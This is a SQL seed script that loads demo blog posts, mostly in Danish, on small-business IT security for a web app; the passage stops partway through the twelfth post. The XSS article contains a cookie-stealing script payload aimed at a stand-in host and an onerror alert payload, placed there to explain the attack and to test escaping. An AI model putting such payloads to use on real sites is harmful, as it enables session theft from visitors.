-- Demo content for local development and tests: Danish articles on IT security for small businesses,
-- one draft, one LinkedIn post, and five customer references (one hidden).
--
-- Runs after the migrations and after supabase/local/seed-users.ts, which creates the demo admin; the posts'
-- author_id is that admin, found through user_roles (null when no admin exists, e.g. `supabase db reset`).
-- Fixed ids and `on conflict do nothing` make it safe to run twice.
-- reading_time_minutes follows the app's rule: words (whitespace-separated) / 200, rounded up.
-- featured_image paths are files the app ships under public/images/blog/.

-- The helpers live in this session's temporary schema and are dropped at the end; a fixed search_path keeps
-- Supabase's linter quiet about them (function_search_path_mutable) even while the session lasts.
create function pg_temp.trim_ws(content text) returns text language sql immutable set search_path = '' as $$
  select regexp_replace(content, '^\s+|\s+$', '', 'g')
$$;

-- Whitespace-separated words, like the app's `content.trim().split(/\s+/)`.
create function pg_temp.reading_time(content text) returns integer language sql immutable set search_path = '' as $$
  select ceil(cardinality(regexp_split_to_array(pg_temp.trim_ws(content), '\s+')) / 200.0)::integer
$$;

create function pg_temp.demo_admin() returns uuid language sql stable set search_path = '' as $$
  select user_id from public.user_roles where role = 'admin' order by created_at, user_id limit 1
$$;

create function pg_temp.add_post(
  p_id uuid,
  p_slug text,
  p_title text,
  p_excerpt text,
  p_category text,
  p_published_at timestamptz,
  p_views integer,
  p_author_name text,
  p_featured_image text,
  p_meta_description text,
  p_meta_keywords text[],
  p_content text,
  p_linkedin_url text default null
) returns void language sql set search_path = '' as $$
  insert into public.blog_posts (
    id, slug, title, excerpt, category, content, featured_image, author_name, author_id, published_at,
    created_at, reading_time_minutes, views_count, linkedin_url, meta_description, meta_keywords, status
  ) values (
    p_id, p_slug, p_title, p_excerpt, p_category, pg_temp.trim_ws(p_content), p_featured_image, p_author_name, pg_temp.demo_admin(),
    p_published_at, coalesce(p_published_at - interval '3 days', now()), pg_temp.reading_time(p_content), p_views,
    p_linkedin_url, p_meta_description, p_meta_keywords,
    case when p_published_at is null then 'draft' else 'published' end
  )
  on conflict (id) do nothing
$$;

-- ---------------------------------------------------------------------------------------------------------
-- 1. Phishing (task list, table, footnote)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000001',
  'saadan-genkender-du-phishing-mails',
  'Sådan genkender du phishing-mails, før de koster dig penge',
  'Falske fakturaer, pakkebeskeder og "din chef skriver": phishing er stadig den mest almindelige vej ind i en lille virksomhed. Her er de tegn, dine medarbejdere skal kende.',
  'Phishing',
  '2025-01-14 08:00:00+01',
  1843,
  'Mette Kjær',
  '/images/blog/phishing-mail.jpg',
  'Lær at genkende phishing-mails: de typiske tegn, en tjekliste til medarbejderne og hvad du gør, hvis nogen har klikket.',
  array['phishing', 'svindelmails', 'CEO-svindel', 'awareness', 'små virksomheder'],
  $md$
Phishing er stadig den mest almindelige måde, kriminelle kommer ind i små danske virksomheder på. Det kræver ingen avanceret teknik: en overbevisende e-mail, et link til en falsk login-side og en travl medarbejder er nok.

Den gode nyhed er, at de fleste phishing-mails har de samme kendetegn. Når dine medarbejdere kender dem, falder risikoen markant.

## De fem klassiske tegn

| Tegn | Eksempel | Hvad du gør |
|---|---|---|
| Hast og pres | "Betal inden kl. 12, ellers lukkes kontoen" | Stop op. Rigtige leverandører giver dig tid. |
| Forkert afsender | `faktura@posthord-dk.com` | Hold musen over afsenderen og læs domænet bagfra. |
| Link der ikke passer | Teksten siger mitid.dk, linket går et andet sted hen | Gå selv til siden via din browser. |
| Uventet vedhæftning | `Faktura_2025.zip` eller en `.html`-fil | Åbn den ikke. Spørg afsenderen på telefon. |
| Usædvanlig anmodning | "Kan du lige købe gavekort til en kunde?" | Ring til personen på et nummer, du selv kender. |

## CEO-svindel rammer de små

Mange tror, at direktørsvindel kun rammer store koncerner. Men i en virksomhed med ti ansatte kender alle direktøren, og netop derfor virker en mail som *"Jeg sidder i møde, kan du lige overføre 48.000 kr. til denne leverandør?"* så troværdigt.

Lav en enkel regel: **ændringer af kontonumre og hasteoverførsler bekræftes altid mundtligt**, på et telefonnummer I allerede har. Den regel alene stopper langt de fleste forsøg.[^1]

## Tjekliste til medarbejderne

Print den, eller sæt den ind i jeres interne håndbog:

- [x] Jeg tjekker afsenderens domæne, før jeg klikker
- [x] Jeg logger aldrig ind via et link i en mail
- [ ] Jeg ringer op ved usædvanlige betalingsanmodninger
- [ ] Jeg ved, hvem jeg skal kontakte, hvis jeg har klikket
- [ ] Jeg har slået multifaktor-godkendelse til på min arbejdskonto

## Hvis uheldet er ude

Har en medarbejder klikket og indtastet sin adgangskode, så handl med det samme:

1. Skift adgangskoden på den berørte konto.
2. Log alle sessioner ud (i Microsoft 365 kan administratoren gøre det centralt).
3. Tjek om der er oprettet regler i indbakken, der videresender mails. Det er et klassisk trick.
4. Fortæl det til resten af virksomheden, så ingen andre falder i samme fælde.

Det vigtigste er, at medarbejderen tør sige det. En kultur, hvor man bliver skældt ud for at klikke, er en kultur, hvor angreb bliver skjult i dagevis.

Vil du læse mere, har Digitaliseringsstyrelsen en god samling råd på https://www.sikkerdigital.dk.

[^1]: Bankerne kan sjældent hente penge tilbage, når en overførsel først er godkendt af en medarbejder. Forebyggelse er derfor den eneste reelle beskyttelse.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 2. NIS2 (table, footnotes, autolinks)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000002',
  'nis2-for-smaa-virksomheder',
  'NIS2 for små virksomheder: Gælder det dig?',
  'NIS2-direktivet stiller nye krav til cybersikkerhed i EU. De fleste virksomheder med under 50 ansatte er ikke direkte omfattet, men mange mærker kravene gennem deres kunder.',
  'Compliance',
  '2025-03-04 09:30:00+01',
  2410,
  'Mette Kjær',
  '/images/blog/nis2-tjekliste.jpg',
  'Er din lille virksomhed omfattet af NIS2? Overblik over hvem der er omfattet, og hvorfor kunderne alligevel vil spørge ind til din sikkerhed.',
  array['NIS2', 'compliance', 'cybersikkerhed', 'leverandørkæde', 'EU-direktiv'],
  $md$
NIS2 er EU's opdaterede direktiv om net- og informationssikkerhed. I Danmark er det gennemført med en ny lov, der gælder fra sommeren 2025.[^1] Spørgsmålet, vi oftest hører fra små virksomheder, er enkelt: *skal vi nu også det?*

Det korte svar er: **sandsynligvis ikke direkte, men sandsynligvis indirekte.**

## Hvem er direkte omfattet?

NIS2 gælder som udgangspunkt for mellemstore og store virksomheder i udvalgte sektorer.

| Størrelse | Ansatte | Omsætning | Direkte omfattet? |
|---|---:|---:|---|
| Mikro | under 10 | under 2 mio. EUR | Som regel nej |
| Lille | 10–49 | under 10 mio. EUR | Som regel nej |
| Mellemstor | 50–249 | op til 50 mio. EUR | Ja, i de udvalgte sektorer |
| Stor | 250+ | over 50 mio. EUR | Ja, i de udvalgte sektorer |

Sektorerne tæller blandt andet energi, transport, sundhed, drikkevand, digital infrastruktur, affaldshåndtering, fødevarer og udvalgte produktionsvirksomheder. Der er undtagelser: enkelte meget små udbydere af kritiske tjenester kan være omfattet uanset størrelse.

## Hvorfor det alligevel rammer dig

En virksomhed, der *er* omfattet, skal styre risikoen i sin leverandørkæde. Det betyder, at din kunde, måske et transportfirma eller en fødevareproducent, begynder at sende spørgeskemaer som dette:

- Bruger I multifaktor-godkendelse på alle konti?
- Har I en opdateret backup, som er testet?
- Hvordan håndterer I sikkerhedsopdateringer?
- Hvem kontakter vi ved en sikkerhedshændelse?

Kan du ikke svare ja til de grundlæggende spørgsmål, risikerer du at miste kunden til en konkurrent, der kan.

## Fem ting du kan gøre nu

1. **Skriv jeres sikkerhedsregler ned.** En side er bedre end ingen.
2. **Slå MFA til** på e-mail, regnskabssystem og fjernadgang.
3. **Få styr på backup**, og test at I faktisk kan gendanne.
4. **Lav en kontaktliste** til brug ved hændelser: IT-partner, forsikring, bank.
5. **Dokumentér** hvad I gør, så I kan svare kunderne hurtigt.

Et abonnement med endpoint-beskyttelse, e-mailsikkerhed og awareness-træning dækker en stor del af det tekniske, men dokumentationen og rutinerne skal I selv eje.

## Nyttige kilder

- Styrelsen for Samfundssikkerhed har vejledning om NIS2: https://www.samsik.dk
- Den officielle tekst til direktivet findes på https://eur-lex.europa.eu
- Praktiske råd til små virksomheder: www.sikkerdigital.dk

[^1]: Lov om foranstaltninger til sikring af et højt cybersikkerhedsniveau (NIS2-loven), som trådte i kraft 1. juli 2025.
[^2]: Denne artikel er generel information og ikke juridisk rådgivning. Er du i tvivl, så spørg din brancheorganisation.

Se også fodnoten om rådgivning.[^2]
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 3. MFA (fenced code, task list)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000003',
  'mfa-den-billigste-sikkerhed',
  'Multifaktor-godkendelse: Den billigste sikkerhed, du kan købe',
  'En stjålet adgangskode er ikke nok, når kontoen er beskyttet af multifaktor-godkendelse. Sådan kommer du i gang på en eftermiddag.',
  'Identitet',
  '2025-04-22 10:00:00+02',
  1322,
  'Jonas Brandt',
  '/images/blog/mfa-telefon.jpg',
  'Multifaktor-godkendelse stopper langt de fleste kontoovertagelser. Guide til MFA i Microsoft 365 for små virksomheder.',
  array['MFA', 'multifaktor', 'Microsoft 365', 'adgangskoder', 'kontosikkerhed'],
  $md$
Hvis du kun gør én ting for jeres IT-sikkerhed i år, så gør dette: **slå multifaktor-godkendelse (MFA) til på alle konti.**

Med MFA skal man ud over adgangskoden bekræfte login med noget, man *har*, typisk en app på telefonen. En kriminel, der har købt eller fisket jeres adgangskode, står derfor stadig uden for døren.

## Hvorfor adgangskoder ikke er nok

Adgangskoder bliver genbrugt, gættet og lækket. Tjek selv, om din arbejdsmail har været med i et kendt læk på https://haveibeenpwned.com. For mange små virksomheder er svaret ja, ofte fra en gammel webshop eller et nyhedsbrev, hvor den samme adgangskode blev brugt.

## Sådan tjekker du status i Microsoft 365

Administratoren kan se, hvilke brugere der har registreret en MFA-metode, med Microsoft Graph PowerShell:

```powershell
# Kræver modulet Microsoft.Graph (Install-Module Microsoft.Graph -Scope CurrentUser)
Connect-MgGraph -Scopes "UserAuthenticationMethod.Read.All", "AuditLog.Read.All"

Get-MgReportAuthenticationMethodUserRegistrationDetail |
  Select-Object UserPrincipalName, IsMfaRegistered, MethodsRegistered |
  Sort-Object IsMfaRegistered |
  Format-Table -AutoSize
```

Brugere med `IsMfaRegistered` lig med `False` står øverst. Det er dem, du skal starte med.

## Vælg den rigtige metode

Ikke alle former for MFA er lige stærke:

1. **Passkeys eller sikkerhedsnøgler** (FIDO2): stærkest, kan ikke fiskes.
2. **Godkendelsesapp med nummermatch**: et godt standardvalg for de fleste.
3. **SMS-koder**: bedre end intet, men sårbare over for SIM-svindel.

Pas på "MFA-træthed": angribere sender mange login-anmodninger i håb om, at brugeren til sidst trykker godkend. Nummermatch, hvor brugeren skal indtaste et tal fra skærmen, løser det problem.

## Plan for en eftermiddag

- [x] Informér medarbejderne dagen før, så ingen bliver overrasket
- [ ] Aktivér MFA for administratorkonti først
- [ ] Aktivér MFA for alle brugere
- [ ] Opret to nødkonti med lange adgangskoder, opbevaret sikkert
- [ ] Slå gamle login-protokoller fra (IMAP og POP uden moderne godkendelse)

Det tager sjældent mere end en time at rulle ud i en virksomhed med under 30 ansatte, og det er den investering i sikkerhed, der giver mest for pengene.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 4. Backup (table, strikethrough, fenced code)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000004',
  'backup-3-2-1-reglen-og-ransomware',
  'Backup efter 3-2-1-reglen, og hvorfor ransomware elsker din NAS',
  'En backup, der står på samme netværk som dine data, bliver krypteret sammen med dem. Sådan indretter du en backup, der overlever et ransomware-angreb.',
  'Backup',
  '2025-06-10 07:45:00+02',
  987,
  'Mette Kjær',
  '/images/blog/backup-3-2-1.jpg',
  'Backup der overlever ransomware: 3-2-1-reglen forklaret for små virksomheder, med offline-kopi og test af gendannelse.',
  array['backup', 'ransomware', '3-2-1', 'gendannelse', 'NAS'],
  $md$
Når ransomware rammer en lille virksomhed, er backup forskellen på en dårlig uge og en lukket virksomhed. Men det er ikke nok at *have* backup. Den skal kunne overleve selve angrebet.

## 3-2-1-reglen

| Tal | Betyder | Eksempel |
|---|---|---|
| **3** | tre kopier af dine data | originalen plus to backupper |
| **2** | på to forskellige medier | NAS og cloud |
| **1** | én kopi uden for huset | cloud-backup eller en disk hos direktøren |

Mange lægger i dag et ekstra **0** til: *nul fejl ved test af gendannelse*.

## Hvorfor NAS'en ikke redder dig

En netværksdisk (NAS), der er koblet på som et drev på alle pc'er, er praktisk. Den er også det første, ransomware krypterer. Angriberne ved det godt, og mange varianter leder aktivt efter netværksdrev og backupfiler.

~~Vi har backup på NAS'en, så vi er dækket.~~ Det er en af de mest udbredte misforståelser, vi møder.

En backup, der kan overleve, er enten **offline** (frakoblet, når den ikke bruges) eller **uforanderlig** (immutable), så den ikke kan slettes eller overskrives i en periode, heller ikke af en administrator.

## Et enkelt eksempel

Her er en opsætning med det gratis værktøj restic, der tager en krypteret backup til et cloud-lager og beholder historik:

```bash
# Engangsopsætning: opret et krypteret backup-lager
export RESTIC_REPOSITORY="s3:https://s3.eu-central-1.amazonaws.com/firma-backup"
export RESTIC_PASSWORD_FILE="/etc/restic/password"
restic init

# Dagligt (fx via cron kl. 02:00)
restic backup /srv/faelles --exclude-caches
restic forget --keep-daily 14 --keep-weekly 8 --keep-monthly 12 --prune

# Månedligt: bevis at backuppen virker
restic check --read-data-subset=5%
```

Sæt *object lock* på lageret hos cloud-udbyderen, så gamle backupper ikke kan slettes med de samme nøgler, som tager dem.

## Test gendannelsen

En backup, der aldrig er testet, er et håb, ikke en plan. Sæt en fast dato i kalenderen hvert kvartal:

- Gendan en tilfældig mappe til en testplacering
- Åbn et par af filerne og tjek, at de virker
- Notér hvor lang tid det tog

Den sidste del er vigtigere, end man tror. Når angrebet kommer, vil alle spørge: *hvornår kører vi igen?*
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 5. Patch management (code, task list) — no author name, no image
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000005',
  'opdateringer-paa-15-minutter-om-ugen',
  'Opdateringer og patch management på 15 minutter om ugen',
  'Langt de fleste angreb udnytter sårbarheder, som der allerede findes en rettelse til. Her er en ugentlig rutine, der holder pc''erne opdaterede uden at stjæle arbejdsdagen.',
  'Endpoint',
  '2025-08-19 08:15:00+02',
  642,
  null,
  null,
  'En enkel ugentlig rutine for sikkerhedsopdateringer af Windows, programmer og routere i den lille virksomhed.',
  array['opdateringer', 'patch management', 'Windows', 'winget', 'sårbarheder'],
  $md$
Angribere bruger sjældent ukendte sårbarheder mod små virksomheder. Det er både dyrt og unødvendigt, for der er rigeligt med maskiner, der mangler opdateringer, der har været ude i måneder.

Derfor er opdateringer en af de mest effektive sikkerhedsforanstaltninger, du har. Det kræver bare en rutine.

## Den ugentlige rutine

Sæt 15 minutter af hver mandag morgen:

- [ ] Tjek at Windows Update har kørt på alle pc'er
- [ ] Opdatér browsere og PDF-læsere
- [ ] Se efter nye versioner af regnskabs- og kassesystem
- [ ] Tjek routerens administrationsside for ny firmware (én gang om måneden)
- [ ] Notér maskiner, der ikke har været tændt i over to uger

## Opdatér programmer med ét kommando

Windows har indbygget pakkehåndtering med `winget`. Fra en administrator-terminal kan du se og installere opdateringer til de fleste almindelige programmer:

```powershell
# Vis programmer, der har en nyere version
winget upgrade

# Opdatér alt, uden at spørge for hvert program
winget upgrade --all --silent --accept-package-agreements --accept-source-agreements
```

Kør det på en testmaskine først, hvis I har forretningskritiske programmer, der er følsomme over for nye versioner.

## Hvad med de maskiner, ingen ser?

Det er sjældent den bærbare på skrivebordet, der er problemet. Det er den gamle pc i lageret, der styrer etiketprinteren, eller NAS'en ingen har logget ind på siden 2021. Lav en liste over *alt*, der er koblet på netværket, og giv hver enhed en ejer.

## Automatisér det, du kan

Med en endpoint-løsning, der viser opdateringsstatus centralt, går de 15 minutter fra at være tjek af hver enkelt maskine til et blik på et dashboard. Det betyder også, at du opdager den bærbare, der har stået slukket i skuffen i en måned, før den bliver et problem.

> Tommelfingerregel: kritiske sikkerhedsopdateringer installeres inden for 14 dage, og i løbet af få dage, hvis der er kendte angreb i gang.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 6. Wi-Fi in the shop (table, code)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000006',
  'wifi-i-butikken-adskil-gaestenet',
  'Wi-Fi i butikken: Adskil gæstenettet fra kassesystemet',
  'Gratis Wi-Fi til kunderne er god service. Men hvis kunderne deler netværk med betalingsterminalen og kontorets pc, er det også en åben dør.',
  'Netværk',
  '2025-10-07 11:00:00+02',
  455,
  'Jonas Brandt',
  '/images/blog/wifi-butik.jpg',
  'Sådan adskiller du gæste-Wi-Fi, kassesystem og kontor-pc''er i en lille butik eller café med separate netværk.',
  array['Wi-Fi', 'netværk', 'gæstenet', 'VLAN', 'butik'],
  $md$
I mange butikker, caféer og klinikker hænger der en lille seddel ved kassen med Wi-Fi-koden. Det er god kundeservice, men ofte er det *samme* netværk, som kassesystemet, kontorets pc og overvågningskameraerne bruger.

Det betyder, at enhver med koden kan se og forsøge at angribe jeres udstyr.

## Del netværket op

Løsningen er at opdele netværket i zoner, der ikke kan tale med hinanden:

| Netværk | Bruges af | Adgang til internettet | Adgang til andre zoner |
|---|---|---|---|
| Gæst | Kunder | Ja, med båndbreddegrænse | Nej |
| Kontor | Medarbejdernes pc'er og printer | Ja | Kun printer |
| Kasse | Betalingsterminal og kassesystem | Kun til betalingsudbyder | Nej |
| Enheder | Kameraer, højttalere, termostat | Begrænset | Nej |

De fleste moderne routere og adgangspunkter til erhverv kan det via såkaldte VLAN. Selv mange forbrugerroutere har i det mindste et separat gæstenet, og det er et godt første skridt.

## Et eksempel på opsætning

På udstyr, der konfigureres med tekst, kan opdelingen se sådan ud (eksemplet er forenklet):

```text
vlan 10 name KONTOR
vlan 20 name KASSE
vlan 30 name GAEST

interface wlan-gaest
  ssid "Cafe-Gaest"
  vlan 30
  client-isolation enable

firewall rule GAEST-TIL-LAN
  from vlan 30 to vlan 10,20 action drop
```

Bemærk `client-isolation`: den forhindrer også gæsterne i at se *hinanden*, hvilket beskytter kunderne mod hinanden.

## Tre hurtige gevinster

1. **Skift standardadgangskoden** på routerens administrationsside. Den står ofte på et klistermærke på bagsiden.
2. **Slå WPS fra.** Funktionen gør det let at koble printere på, men også lettere at bryde ind.
3. **Skift gæstekoden jævnligt**, fx hver måned, og især når en medarbejder stopper.

Kort sagt: kunderne skal have internet, ikke adgang til jeres virksomhed.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 7. Cloud app security (English; table, task list, footnote, autolink)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000007',
  'five-microsoft-365-settings-to-change',
  'Five Microsoft 365 security settings every small business should change',
  'The default settings of a new Microsoft 365 tenant favour convenience over security. These five changes take an afternoon and close the most common gaps.',
  'Cloud',
  '2026-01-13 09:00:00+01',
  731,
  'Mette Kjær',
  '/images/blog/microsoft-365-settings.jpg',
  'Five Microsoft 365 settings to change in a small business tenant: MFA, legacy authentication, forwarding, sharing and audit logs.',
  array['Microsoft 365', 'cloud security', 'email forwarding', 'audit log', 'small business'],
  $md$
Most small Danish businesses run on Microsoft 365: email, Teams, OneDrive and SharePoint. A new tenant works out of the box, but several defaults are tuned for convenience rather than security.

Here are five settings we change for almost every customer.

## 1. Turn on security defaults or Conditional Access

Security defaults enforce multi-factor authentication for everyone and block legacy sign-ins. If you have Business Premium, use Conditional Access policies instead for finer control.

## 2. Block legacy authentication

Old protocols like POP, IMAP and SMTP with basic authentication cannot do MFA. Attackers love them for password spraying.

## 3. Stop automatic forwarding to external addresses

A compromised mailbox with a silent forwarding rule is one of the most common findings after an incident[^forward]. Block external auto-forwarding in the outbound spam policy, and allow exceptions only where the business really needs them.

## 4. Limit external sharing

| Setting | Default | Our recommendation |
|---|---|---|
| SharePoint external sharing | Anyone with the link | New and existing guests |
| Link expiry for "anyone" links | Never | 30 days |
| Default link type | Anyone | Specific people |

## 5. Make sure audit logging is on

Without the unified audit log you cannot answer the first question after an incident: *what did the attacker do?* Check that it is enabled and that someone knows where to find it.

## Your checklist

- [ ] MFA enforced for every user, including the owner
- [ ] Legacy authentication blocked
- [ ] External auto-forwarding blocked
- [ ] Sharing links expire
- [ ] Audit log enabled and retention checked

Microsoft documents all of these settings at https://learn.microsoft.com/microsoft-365/security. If the list looks long, start with number one: it stops most account takeovers on its own.

[^forward]: Attackers use forwarding rules to read invoices and payment conversations, then step in with a fake "new bank account" email at exactly the right moment.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 8. XSS: raw HTML in the content, which the app must display as text
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000008',
  'xss-naar-en-kommentar-bliver-et-angreb',
  'XSS: Når en kommentar bliver til et angreb',
  'Cross-site scripting gør det muligt at køre fremmed kode i dine kunders browser. Sådan ser angrebet ud, og sådan beskytter en hjemmeside sig.',
  'Web-sikkerhed',
  '2026-03-03 10:30:00+01',
  0,
  'Jonas Brandt',
  null,
  'Hvad er cross-site scripting (XSS)? Eksempler på angreb via formularer og kommentarfelter, og hvordan hjemmesider beskytter sig.',
  array['XSS', 'cross-site scripting', 'webshop', 'hjemmeside', 'sårbarheder'],
  $md$
Har din virksomhed en webshop, et kontaktformular eller et kommentarfelt, så tager du imod tekst fra fremmede. Det er helt normalt, men teksten skal behandles som **tekst**, aldrig som kode.

Cross-site scripting, forkortet XSS, opstår, når en hjemmeside viser brugerens input direkte som HTML.

## Sådan ser et forsøg ud

Forestil dig, at en "kunde" skriver dette i en produktanmeldelse:

Fantastisk produkt! <script>fetch('https://angriber.example/stjael?c=' + document.cookie)</script>

Hvis siden indsætter anmeldelsen som HTML, kører scriptet i browseren hos *alle*, der læser anmeldelsen. Det kan stjæle sessioner, ændre priser på siden eller sende kunderne videre til en falsk betalingsside.

Et mere uskyldigt eksempel er formatering: skriver nogen <b>fed tekst</b> eller <img src="x" onerror="alert(1)">, skal du på denne side se selve koden, ikke fed skrift eller en pop-up. Den her artikel indeholder nemlig rå HTML med vilje, og siden viser det som almindelig tekst.

## Hvordan beskytter man sig?

| Forsvar | Hvad det gør |
|---|---|
| Escaping ved visning | `<` bliver til `&lt;`, så browseren viser tegnet i stedet for at tolke det |
| Content Security Policy | Browseren nægter at køre scripts fra ukendte kilder |
| HttpOnly-cookies | Scripts kan ikke læse sessionscookien |
| Opdaterede plugins | Mange XSS-huller findes i gamle WordPress-plugins |

Moderne frameworks escaper som standard. Problemerne opstår typisk, når en udvikler bevidst slår det fra, for eksempel for at kunne vise formateret tekst:

```html
<!-- Farligt: brugerens tekst indsættes som HTML -->
<div id="anmeldelse"></div>
<script>
  document.getElementById("anmeldelse").innerHTML = anmeldelse.tekst;
</script>

<!-- Sikkert: brugerens tekst indsættes som tekst -->
<script>
  document.getElementById("anmeldelse").textContent = anmeldelse.tekst;
</script>
```

## Hvad betyder det for dig?

Du behøver ikke selv at kunne kode. Men spørg dit webbureau eller leverandør:

- [ ] Bliver alt brugerinput escaped, før det vises?
- [ ] Har siden en Content Security Policy?
- [ ] Hvornår blev plugins og tema sidst opdateret?

Svarene fortæller dig meget om, hvor godt din hjemmeside er passet.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 9. Awareness training (task list, table)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000009',
  'awareness-traening-uden-skraemmekampagner',
  'Awareness-træning uden skræmmekampagner',
  'Medarbejderne er ikke det svageste led, de er jeres bedste sensor. Sådan bygger du en sikkerhedskultur, hvor folk siger til i stedet for at skjule fejl.',
  'Awareness',
  '2026-06-16 08:30:00+02',
  318,
  'Mette Kjær',
  '/images/blog/awareness-traening.jpg',
  'Sådan laver du awareness-træning, der virker i en lille virksomhed: korte forløb, realistiske øvelser og en kultur uden skyld.',
  array['awareness', 'sikkerhedskultur', 'træning', 'phishing-test', 'medarbejdere'],
  $md$
"Mennesket er det svageste led." Sætningen går igen i næsten alle præsentationer om IT-sikkerhed. Den er ikke bare lidt uretfærdig, den er også dårlig strategi. Medarbejdere, der føler sig som problemet, holder op med at fortælle, når noget er galt.

Vend det om: **jeres medarbejdere er den sensor, der opdager angreb først.**

## Hvad virker, og hvad virker ikke

| Virker | Virker ikke |
|---|---|
| Korte forløb på 5–10 minutter om måneden | Et årligt foredrag på to timer |
| Øvelser med realistiske, danske eksempler | Generiske videoer på engelsk |
| Ros til dem, der melder en mistænkelig mail | ~~Navne på "klikkere" i personalebladet~~ |
| Enkle regler, der kan huskes | Lange politikker, ingen læser |

## Phishing-øvelser med omtanke

Simulerede phishing-mails kan være nyttige, hvis de bruges til læring og ikke til at fange folk. Et par gode principper:

1. Fortæl på forhånd, at der kommer øvelser i løbet af året.
2. Vis med det samme, hvad man kunne have opdaget, når nogen klikker.
3. Mål på hvor mange der *melder* mailen, ikke kun hvor mange der klikker.

## En måned i praksis

- [x] Uge 1: Kort video om falske fakturaer
- [x] Uge 2: Simuleret pakkebesked via SMS
- [ ] Uge 3: Fem minutters snak på personalemødet om, hvad folk har set
- [ ] Uge 4: Opfølgning: hvad lærte vi?

Det tager ikke lang tid, men gentagelsen gør forskellen. Efter et halvt år vil du opleve, at medarbejderne selv sender mistænkelige mails videre med et "er den her ægte?". Det er præcis dét, I vil have.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 10. Threat picture (table, footnotes, autolinks)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000010',
  'trusselsbilledet-for-smaa-virksomheder-2026',
  'Trusselsbilledet for små virksomheder i efteråret 2026',
  'Falske leverandørskift, QR-koder i mails og angreb på regnskabssystemer: her er de trusler, vi oftest har set hos små danske virksomheder det seneste halve år.',
  'Trusselsbillede',
  '2026-10-27 07:30:00+01',
  156,
  'Mette Kjær',
  '/images/blog/trusselsbillede-2026.jpg',
  'De mest almindelige cybertrusler mod små danske virksomheder i 2026: leverandørsvindel, QR-phishing, MFA-træthed og ransomware.',
  array['trusselsbillede', 'QR-phishing', 'ransomware', 'leverandørsvindel', '2026'],
  $md$
Hvert halve år gennemgår vi de hændelser og henvendelser, vi har fået fra kunder og partnere. Her er de mønstre, der går igen i efteråret 2026.

## De hyppigste angrebstyper

| Angreb | Udvikling | Typisk mål |
|---|---|---|
| Falsk leverandørskift af kontonummer | Stigende | Bogholderi |
| QR-kode-phishing ("quishing") | Stigende | Alle medarbejdere |
| MFA-træthed (gentagne login-anmodninger) | Stabil | Ledelse og administratorer |
| Ransomware via gamle VPN-enheder | Stabil | Virksomheder med fjernadgang |
| Klassisk faktura-phishing med vedhæftning | ~~Stigende~~ Faldende | Bogholderi |

## QR-koder i mails

QR-koder er blevet populære hos svindlere, fordi mange e-mailfiltre ikke læser billeder. Mailen ligner typisk en besked fra IT om, at "din MFA skal fornyes": scan koden med telefonen. Telefonen er sjældent lige så godt beskyttet som pc'en, og brugeren ser ikke adressen, før det er for sent.[^1]

**Råd:** Lær medarbejderne, at IT aldrig beder dem scanne en QR-kode fra en mail for at logge ind.

## Leverandørsvindel bliver mere målrettet

Angriberne bruger tid. De overtager først en mailkonto hos en af jeres leverandører, læser med i uger og skriver så fra den *rigtige* adresse, at kontonummeret er ændret. Den eneste sikre kontrol er at ringe til et nummer, I allerede har.

## Gamle VPN-enheder

Flere ransomware-sager i år startede i en VPN-boks eller firewall, som ikke var opdateret. Enhederne står ofte i et skab og bliver glemt. Tjek producentens sikkerhedsmeddelelser, og overvej om I stadig har brug for VPN, hvis alle data alligevel ligger i skyen.

## Kilder og mere viden

- Styrelsen for Samfundssikkerhed udgiver løbende trusselsvurderinger: https://www.samsik.dk
- Anmeld svindel og angreb til politiet på https://politi.dk
- Brud på persondatasikkerheden skal anmeldes til Datatilsynet inden for 72 timer.[^2]

[^1]: Vi anbefaler, at firmatelefoner har en mobilsikkerhedsløsning, der også kontrollerer links, der åbnes fra QR-koder.
[^2]: Fristen gælder fra det tidspunkt, hvor virksomheden er blevet opmærksom på bruddet. Se https://www.datatilsynet.dk.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- 11. LinkedIn post (published; the app opens linkedin_url instead of rendering the content)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000011',
  'vi-er-iso-27001-certificeret',
  'Vi er nu ISO 27001-certificeret',
  'Vi har bestået ISO 27001-audit. Læs vores opslag på LinkedIn om, hvad certificeringen betyder for vores kunder.',
  'Nyheder',
  '2026-09-15 12:00:00+02',
  264,
  'Mette Kjær',
  '/images/blog/iso-27001.jpg',
  'Nordvagt IT-Sikkerhed er ISO 27001-certificeret. Hvad certificeringen betyder for kunderne.',
  array['ISO 27001', 'certificering', 'nyheder'],
  $md$
Vi har bestået ISO 27001-audit. Certificeringen dokumenterer, at vi arbejder systematisk med informationssikkerhed i alt, vi gør for vores kunder, fra support til håndtering af data. Hele opslaget kan læses på LinkedIn.
$md$,
  'https://www.linkedin.com/company/nordvagt-it-sikkerhed/posts/'
);

-- ---------------------------------------------------------------------------------------------------------
-- 12. Draft (never shown publicly)
-- ---------------------------------------------------------------------------------------------------------
select pg_temp.add_post(
  'b1000000-0000-4000-8000-000000000012',
  'passkeys-farvel-til-adgangskoder',
  'Passkeys: Farvel til adgangskoder?',
